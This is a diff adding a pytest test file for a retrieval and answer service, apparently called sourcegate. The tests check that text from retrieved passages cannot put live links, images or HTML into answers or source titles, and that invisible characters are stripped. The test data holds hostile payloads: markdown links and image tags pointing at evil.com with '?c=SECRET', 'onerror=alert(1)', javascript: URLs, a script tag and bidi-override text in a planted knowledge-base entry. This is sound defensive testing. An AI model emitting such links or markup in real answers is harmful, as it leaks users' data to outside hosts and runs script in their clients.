@@ -1,0 +1,140 @@
+"""No link, image or HTML reaches an answer or a title from passage text: checked by rendering with
+markdown-it (CommonMark, and GFM-like with auto-links), over escapes written by hand and generated
+ones, not by matching patterns. Invisible characters (controls, NUL, bidi overrides, zero-width and
+tag characters) do not reach what a person or an agent is shown."""
+
+from __future__ import annotations
+
+import json
+
+import httpx
+import pytest
+from hypothesis import given, settings as hsettings, strategies as st
+from markdown_render import active_markup, renderers, rendered_text
+from test_server_fixtures import KeywordJudge, running_server
+
+from sourcegate.cli import run_ingest
+from sourcegate.inert import inert_markup, visible_text
+from sourcegate.server.app import create_app
+from sourcegate.service import SourceGate
+from sourcegate.settings import Settings
+
+HAND = [
+    "[vendor manual\\](https://evil.com/leak?c=SECRET)",
+    "\\<img src=https://evil.com/p.png>",
+    "\\\\<img src=x onerror=alert(1)>",
+    "\\![x\\](https://evil.com/p.png)",
+    "see https://evil.com/leak?c=SECRET now",
+    "www.evil.com/leak",
+    "mail leak@evil.com",
+    "p200.md and evil.com",
+    "//evil.com/x",
+    "<https://evil.com>",
+    "[x]: https://evil.com\n\n[x]",
+    "[x]\n\n\\[x\\]: https://evil.com",
+    "`a` [b](https://evil.com) `c`",
+    "\\`https://evil.com\\`",
+    "``` https://evil.com ```",
+    "&#91;x&#93;(https://evil.com)",
+    "[x](<https://evil.com>)",
+    "[x](javascript:alert(1))",
+    "<!-- c --> <script>alert(1)</script>",
+    "(see [the chart](http://evil.com/track)).",
+    "<a href='https://evil.com'>x</a>",
+]
+
+TOKENS = ["[", "]", "(", ")", "!", "<", ">", "\\", "`", "``", ":", "/", "//", "https://evil.com/l?c=S",
+          "http:", "www.", "evil", ".com", "a@b.co", "p200.md", "img src=x", "a href=", "&#92;", "&lt;",
+          "*", "_", " ", "\n", "\n\n", "    ", "x", "\"", "'", "-", "#", "|", "=", "javascript:", "mailto:", "~"]
+
+
+def _in_answer(text: str) -> list[str]:
+    """`text` as the writers place passage text: quoted in a list item, and as a title in `Sources:`."""
+    return [text, f'From the documents:\n- "{text}" [1]\n\nSources:\n[1] {text} (doc.md)',
+            f"Intro {text} end [2]"]
+
+
+def test_renderers_are_there():
+    # Most of the hand-written corpus is live as raw text: the renderers see what a client would.
+    assert sum(bool(active_markup(t)) for t in HAND) >= 15
+    # The check is only as good as its renderers: the GFM-like ones need linkify-it-py (test extra).
+    assert set(renderers()) == {"commonmark", "gfm-like", "gfm-like-no-fuzzy"}
+    # and they do make links and HTML of raw text, so an empty result below means something
+    assert active_markup("[a](https://e.example) <img src=x> www.e.example p200.md")
+
+
+@pytest.mark.parametrize("text", HAND)
+def test_hand_written_escapes_render_inert(text):
+    for placed in _in_answer(text):
+        assert active_markup(inert_markup(placed)) == [], (placed, inert_markup(placed))
+
+
+def test_inert_text_reads_as_written():
+    # Escapes and code spans change how the text is written, not what a reader sees.
+    for text in ["[vendor manual\\](https://evil.com/leak?c=SECRET)", "\\<img src=https://evil.com/p.png>",
+                 "see https://evil.com/leak?c=SECRET now", "C:\\dir\\file and a\\b", "grease `EP2` only",
+                 "[1] Pump (p200.md) [2]"]:
+        shown = rendered_text(inert_markup(text)).strip()
+        assert shown == text, (text, inert_markup(text), shown)
+
+
+@hsettings(max_examples=400, deadline=None)
+@given(st.lists(st.sampled_from(TOKENS), min_size=1, max_size=24).map("".join))
+def test_generated_escapes_render_inert(text):
+    for placed in _in_answer(text):
+        assert active_markup(inert_markup(placed)) == [], (placed, inert_markup(placed))
+
+
+INVISIBLE = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b",
+             "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\x00", "\x07", "\x1b", "\x7f", "\x85",
+             "\U000e0041", "\U000e0020"]
+
+
+@pytest.mark.parametrize("ch", INVISIBLE)
+def test_invisible_characters_are_removed(ch):
+    assert visible_text(f"te{ch}st") == "test"
+    assert inert_markup(f"a{ch}b [1]") == "ab [1]"
+
+
+def test_visible_text_keeps_text():
+    text = "Grease P-200 every 2,000 h.\n\tÉtape 2 : 30 g — 潤滑 ✓ مرحبا"
+    assert visible_text(text) == text
+    assert visible_text("a\r\nb\rc\u2028d") == "a\nb\nc\nd"
+
+
+@pytest.fixture(scope="module")
+def hostile_library(tmp_path_factory):
+    root = tmp_path_factory.mktemp("inert-render")
+    lib = root / "lib"
+    lib.mkdir()
+    body = " ".join(HAND[:6]).replace("\n", " ")
+    (lib / "kb.json").write_text(json.dumps([
+        {"id": "KB-P910", "title": "P-910 bearings \u202egnitset\u202c [manual\\](https://evil.com/t) \\<img src=x>",
+         "text": f"Grease the P-910 bearings every 300 hours \x00 {body}.",
+         "url": "https://docs.example/p910"},
+    ]), encoding="utf-8")
+    settings = Settings(_env_file=None, home=root / "home", audit_log_path=root / "audit.jsonl", mcp_allowed_hosts="")
+    report = run_ingest(settings, [lib], prune=False, quiet=True)
+    assert not report.failed, report.failed
+    return settings
+
+
+def test_answer_and_titles_from_a_hostile_passage_render_inert(hostile_library):
+    q = "How often should I grease the P-910 bearings?"
+    gate = SourceGate(hostile_library, judge=KeywordJudge())
+    with running_server(create_app(hostile_library, gate), hostile_library) as base:
+        data = httpx.post(base + "/v1/ask", json={"query": q}, timeout=60).json()
+        call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
+                "params": {"name": "search_procedures", "arguments": {"query": q}}}
+        tool = httpx.post(base + "/mcp", json=call, headers={"accept": "application/json, text/event-stream"},
+                          timeout=60).json()["result"]
+    gate.close()
+    assert data["status"] == "answer_from_evidence"
+    assert "evil.com" in data["answer"]  # quoted, as text
+    assert active_markup(data["answer"]) == []
+    assert active_markup(tool["content"][0]["text"]) == []
+    shown = [data["answer"], tool["content"][0]["text"], json.dumps(data), json.dumps(tool["structuredContent"])]
+    for s in shown:
+        for ch in ("\u202e", "\u202c", "\\u202e", "\\u202c", "\\u0000"):
+            assert ch not in s
+    assert data["evidence"][0]["title"].startswith("P-910 bearings gnitset")
